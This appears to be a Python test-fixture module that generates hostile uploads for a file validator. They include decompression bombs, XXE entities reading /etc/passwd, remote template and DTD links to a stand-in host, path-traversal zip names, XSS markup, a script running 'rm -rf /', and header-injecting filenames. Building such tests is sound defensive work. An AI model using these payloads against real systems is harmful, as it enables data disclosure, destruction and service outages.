"""Files that are not what they say, or that are meant to harm who opens them; all made on the spot.

Each is a name, what it is sent as, and its bytes. Whether it has to be refused or may be kept,
because keeping it harms nobody, stands in `tests/test_hostile_files.py`.
"""

import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO

from PIL import Image

from tests.files import BODY, TYPES, docx, pdf, picture

Maker = Callable[[], bytes]

MEGABYTE = 1024 * 1024
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
PROGRAM = b"MZ\x90\0" + bytes(60) + b"PE\0\0" + bytes(400)


def a_zip(parts: dict[str, bytes]) -> bytes:
    written = BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return written.getvalue()


# PDF


def unpacking_pdf() -> bytes:
    packed = zlib.compress(bytes(60 * MEGABYTE), 9)
    head = f"9 0 obj\n<</Length {len(packed)}/Filter/FlateDecode>>\nstream\n".encode()
    return pdf(more=head + packed + b"\nendstream\nendobj\n")


# Pictures


def png_chunk(name: bytes, content: bytes) -> bytes:
    checksum = zlib.crc32(name + content)
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", checksum)


def png(width: int, height: int, *chunks: bytes, depth: int = 8, colour: int = 2) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        [png_chunk(b"IHDR", header), *chunks, png_chunk(b"IEND", b"")]
    )


def flood_png(width: int, height: int) -> bytes:
    """A real picture of one colour that takes four bytes a point once it is read."""
    packer, rows = zlib.compressobj(9), bytes(1 + width * 3)
    packed = b"".join(packer.compress(rows) for _ in range(height)) + packer.flush()
    return png(width, height, png_chunk(b"IDAT", packed))


def texts_png() -> bytes:
    bomb = png_chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(MEGABYTE - 1), 9))
    return png(1, 1, *[bomb] * 60, png_chunk(b"IDAT", zlib.compress(bytes(4))))


def profile_png() -> bytes:
    bomb = png_chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(100 * MEGABYTE), 9))
    return png(1, 1, bomb, png_chunk(b"IDAT", zlib.compress(bytes(4))))


def resized_jpg(width: int, height: int, **how: object) -> bytes:
    """A small JPG that claims to be a large one."""
    content = bytearray(picture("JPEG", **how))
    for mark in (b"\xff\xc0", b"\xff\xc2"):
        place = content.find(mark)
        if place > 0:
            content[place + 5 : place + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def scans_jpg() -> bytes:
    """Thousands of scans over a large picture, each of which a reader goes through in full."""
    whole = resized_jpg(3000, 3000, progressive=True)
    place = whole.rindex(b"\xff\xda")
    scan = whole[place:-2]
    return whole[:place] + scan * 5000 + b"\xff\xd9"


def parted_jpg(width: int, height: int) -> bytes:
    """Not progressive, but its first scan holds one colour only: kept whole while it is read."""
    content = bytearray(resized_jpg(width, height))
    place = content.find(b"\xff\xda")
    # Three colours in the header become one.
    content[place : place + 14] = b"\xff\xda\0\x08\x01\x01\x00\x00\x3f\x00"
    return bytes(content)


def segments_jpg() -> bytes:
    return b"\xff\xd8" + b"\xff\xfe\0\2" * 1_000_000 + picture("JPEG")[2:]


def other_picture(form: str) -> Maker:
    def make() -> bytes:
        written = BytesIO()
        Image.new("RGB", (20, 20), "red").save(written, form)
        return written.getvalue()

    return make


def broken_crc_png() -> bytes:
    content = bytearray(picture("PNG"))
    content[-20] ^= 0xFF
    return bytes(content)


# DOCX


def entity(text: str) -> dict[str, bytes]:
    return {"word/document.xml": f'<?xml version="1.0"?>{text}<w:document/>'.encode()}


def laughs() -> bytes:
    levels = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    return docx(entity(f'<!DOCTYPE x [<!ENTITY a0 "ha">{levels}]>'))


def late_entity() -> bytes:
    """Behind a comment as long as the pieces a check may read."""
    filler = f"<!--{'x' * (256 * 1024 - 40)}-->"
    return docx(entity(f'{filler}<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'))


def other_alphabet() -> bytes:
    text = (
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///x">]><x/>'
    )
    return docx({"word/document.xml": text.encode("utf-16")})


def seven_bits() -> bytes:
    text = '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-<x/>'
    return docx({"word/document.xml": text.encode()})


def with_links(target: str, kind: str = "attachedTemplate") -> bytes:
    link = (
        '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        f'officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    )
    return docx({"word/_rels/settings.xml.rels": link})


def patched(content: bytes, change: Callable[[bytearray, int], None]) -> bytes:
    """The list of parts at the end of a zip, changed by hand."""
    found = bytearray(content)
    change(found, found.index(b"PK\1\2"))
    return bytes(found)


def lying_sizes() -> bytes:
    """Says 100 bytes and unpacks to 50 MB."""

    def lie(content: bytearray, place: int) -> None:
        place = content.rindex(b"PK\1\2")
        content[place + 24 : place + 28] = struct.pack("<L", 100)

    return patched(docx({"word/media/a.xml": b" " * (50 * MEGABYTE)}), lie)


def locked_zip() -> bytes:
    def lock(content: bytearray, place: int) -> None:
        content[place + 8] |= 1

    return patched(docx(), lock)


def other_method() -> bytes:
    return docx(method=zipfile.ZIP_LZMA)


def overlapping() -> bytes:
    """One packed piece of 40 KB that two hundred parts share, 8 GB when they are unpacked."""
    content = bytearray(docx({"word/media/0.xml": b" " * (40 * MEGABYTE)}))
    end = content.rindex(b"PK\5\6")
    last = content.rindex(b"PK\1\2")
    length = len("word/media/0.xml")
    more = b""
    for number in range(100, 300):
        entry = bytearray(content[last:end])
        entry[46 : 46 + length] = f"word/media/{number}.x".encode()[:length].ljust(length, b"m")
        entry[24:28] = struct.pack("<L", 1000)
        more += entry
    first = content.index(b"PK\1\2")
    list_of_parts = bytes(content[first:end]) + more
    count = 3 + 200
    closing = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(list_of_parts), first, 0)
    return bytes(content[:first]) + list_of_parts + closing


def endless_list() -> bytes:
    """Names 300,000 parts that are not there, in 18 MB."""
    head = docx()
    first, end = head.index(b"PK\1\2"), head.index(b"PK\5\6")
    entry = bytearray(head[first : first + 46 + len("[Content_Types].xml")])
    list_of_parts = head[first:end] + bytes(entry) * 280_000
    closing = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 9, 9, len(list_of_parts), first, 0)
    return head[:first] + list_of_parts + closing


def zip_named(name: str) -> Maker:
    return lambda: docx({name: b"isi"})


def broken_docx() -> bytes:
    content = bytearray(docx({"word/media/a.xml": b"isi contoh" * 90}, method=zipfile.ZIP_STORED))
    place = content.index(b"isi contoh")
    content[place] ^= 0xFF
    return bytes(content)


HOSTILE: dict[str, tuple[str, Maker]] = {
    "empty": ("kosong.pdf", lambda: b""),
    "one byte": ("a.pdf", lambda: b"%"),
    "HTML called PDF": ("naskah.pdf", lambda: HTML),
    "program called PDF": ("naskah.pdf", lambda: PROGRAM),
    "script of a shell": ("naskah.pdf", lambda: b"#!/bin/sh\nrm -rf /\n"),
    "PostScript called PDF": ("naskah.pdf", lambda: b"%!PS-Adobe-3.0\n" + pdf()),
    "HTML before a PDF": ("naskah.pdf", lambda: HTML + pdf()),
    "zip behind a PDF": ("naskah.pdf", lambda: pdf() + a_zip({"a.html": HTML})),
    "program behind a PDF": ("naskah.pdf", lambda: pdf() + PROGRAM),
    "HTML behind a PDF": ("naskah.pdf", lambda: pdf() + HTML),
    "locked PDF": ("naskah.pdf", lambda: pdf(trailer="/Encrypt 9 0 R")),
    "half a PDF": ("naskah.pdf", lambda: pdf(more=b"% x\n" * 5000)[:9000]),
    "PDF without a catalogue": ("naskah.pdf", lambda: pdf().replace(b"/Root", b"/Rood")),
    "beginning of a PDF": ("naskah.pdf", lambda: b"%PDF-1.7\n"),
    "PDF of ends only": ("naskah.pdf", lambda: b"%PDF-1.7" + b"startxref   9" * 900_000),
    "gzip called PDF": ("naskah.pdf", lambda: b"\x1f\x8b\x08" + bytes(40)),
    "SVG called PNG": ("gambar.png", lambda: SVG),
    "SVG": ("gambar.svg", lambda: SVG),
    "SVG with an XML head": ("gambar.jpg", lambda: b'<?xml version="1.0"?>' + SVG),
    "GIF called JPG": ("gambar.jpg", other_picture("GIF")),
    "BMP": ("gambar.bmp", other_picture("BMP")),
    "TIFF called JPG": ("gambar.jpg", other_picture("TIFF")),
    "WebP called PNG": ("gambar.png", other_picture("WEBP")),
    "icon": ("gambar.ico", other_picture("ICO")),
    "HTML behind the mark of a PNG": ("gambar.png", lambda: b"\x89PNG\r\n\x1a\n" + HTML),
    "HTML behind the mark of a JPG": ("gambar.jpg", lambda: b"\xff\xd8\xff\xe0" + HTML),
    "half a JPG": ("foto.jpg", lambda: picture("JPEG", size=(600, 400))[:20_000]),
    "half a PNG": ("foto.png", lambda: picture("PNG", size=(200, 200))[:9000]),
    "JPG of 4,000 million points": ("foto.jpg", lambda: resized_jpg(65_000, 65_000)),
    "PNG of 2,500 million points": ("foto.png", lambda: png(50_000, 50_000)),
    "JPG kept whole, of 64 million points": (
        "foto.jpg",
        lambda: resized_jpg(8000, 8000, progressive=True),
    ),
    "JPG in parts, of 64 million points": ("foto.jpg", lambda: parted_jpg(8000, 8000)),
    "JPG of 5,000 scans": ("foto.jpg", scans_jpg),
    "JPG of a million segments": ("foto.jpg", segments_jpg),
    "PNG of texts that unpack": ("foto.png", texts_png),
    "PNG of a million chunks": (
        "foto.png",
        lambda: png(1, 1, png_chunk(b"aaAa", b"") * 1_000_000),
    ),
    "PNG with a profile that unpacks": ("foto.png", profile_png),
    "PNG with a wrong checksum": ("foto.png", broken_crc_png),
    "zip behind a PNG": ("foto.png", lambda: picture("PNG") + a_zip({"a.html": HTML})),
    "HTML behind a PNG": ("foto.png", lambda: picture("PNG") + HTML),
    "plain zip": ("naskah.docx", lambda: a_zip({"a.txt": b"isi"})),
    "zip in a zip": ("naskah.zip", lambda: a_zip({"b.zip": a_zip({"a.html": HTML})})),
    "spreadsheet called DOCX": (
        "naskah.docx",
        lambda: docx({"[Content_Types].xml": TYPES.replace("wordprocessing", "spreadsheet")}),
    ),
    "zip in a DOCX": ("naskah.docx", lambda: docx({"word/a.zip": a_zip({"a": b"b"})})),
    "program in a DOCX": ("naskah.docx", lambda: docx({"word/embeddings/a.bin": PROGRAM})),
    "macro": ("naskah.docx", lambda: docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    "macro by its type": (
        "naskah.docx",
        lambda: docx(
            {"[Content_Types].xml": TYPES.replace("<Override", "<a t='macroEnabled'/><Override")}
        ),
    ),
    "DOCX that unpacks to 120 MB": (
        "naskah.docx",
        lambda: docx({"word/media/a.xml": b" " * (120 * MEGABYTE)}),
    ),
    "DOCX that lies about a size": ("naskah.docx", lying_sizes),
    "DOCX of parts that overlap": ("naskah.docx", overlapping),
    "DOCX of 280,000 parts": ("naskah.docx", endless_list),
    "XXE": (
        "naskah.docx",
        lambda: docx(entity('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>')),
    ),
    "XXE in links": (
        "naskah.docx",
        lambda: docx({"_rels/.rels": '<!DOCTYPE x SYSTEM "http://contoh.id/a.dtd"><x/>'}),
    ),
    "XXE behind a long comment": ("naskah.docx", late_entity),
    "XXE in another alphabet": ("naskah.docx", other_alphabet),
    "XXE in seven bits": ("naskah.docx", seven_bits),
    "entities that multiply": ("naskah.docx", laughs),
    "template from elsewhere": ("naskah.docx", lambda: with_links("http://contoh.id/a.dotm")),
    "template from a share": ("naskah.docx", lambda: with_links(r"\\contoh.id\a.dotm")),
    "part above the folder": ("naskah.docx", zip_named("../../etc/cron.d/a")),
    "part from the root": ("naskah.docx", zip_named("/etc/passwd")),
    "part of a drive": ("naskah.docx", zip_named("C:evil")),
    "the same part twice": ("naskah.docx", zip_named("WORD/document.xml")),
    "locked DOCX": ("naskah.docx", locked_zip),
    "DOCX packed otherwise": ("naskah.docx", other_method),
    "DOCX with a wrong checksum": ("naskah.docx", broken_docx),
    "half a DOCX": ("naskah.docx", lambda: docx({"word/a.xml": BODY * 90})[:-30]),
    "program before a DOCX": ("naskah.docx", lambda: PROGRAM + docx()),
    "DOCX behind another zip": ("naskah.docx", lambda: a_zip({"a.html": HTML}) + docx()),
    "HTML behind a DOCX": ("naskah.docx", lambda: docx() + HTML),
    "21 MB": ("naskah.pdf", lambda: pdf(more=b"% " + b"x" * (21 * MEGABYTE) + b"\n")),
}

# They may be kept: nothing of them runs on our side, and they are given out in a sandbox.
HARMLESS: dict[str, tuple[str, Maker]] = {
    "PDF with a script": (
        "naskah.pdf",
        lambda: pdf(trailer="/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
    ),
    "PDF that unpacks to 60 MB": ("naskah.pdf", unpacking_pdf),
    "PDF of nested arrays": ("naskah.pdf", lambda: pdf(more=b"[" * 5_000_000 + b"\n")),
    "PDF with markup": ("naskah.pdf", lambda: pdf(HTML.decode())),
    "JPG with markup": ("foto.jpg", lambda: picture("JPEG", comment=HTML)),
    "zip behind a JPG": ("foto.jpg", lambda: picture("JPEG") + a_zip({"a.html": HTML})),
    "folders in the name": ("../../../etc/passwd.pdf", pdf),
    "folders of Windows in the name": (r"..\..\windows\system32\a.pdf", pdf),
    "a name of 300 letters": ("n" * 300 + ".pdf", pdf),
    "a name of 300 bytes": ("ñ" * 150 + ".pdf", pdf),
    "a name written backwards": ("naskah\u202efdp.exe", pdf),
    "quotes and a header in the name": ('a"; x="\r\nSet-Cookie: a=b.pdf', pdf),
    "markup in the name": ("<img src=x onerror=alert(1)>.pdf", pdf),
    "a program by its name": ("naskah.pdf.exe", pdf),
    "dots for a name": ("...", pdf),
    "a device for a name": ("CON.pdf", pdf),
    "pictures for a name": ("😀🏛️.pdf", pdf),
    "HTML by its name": ("naskah.html", pdf),
}
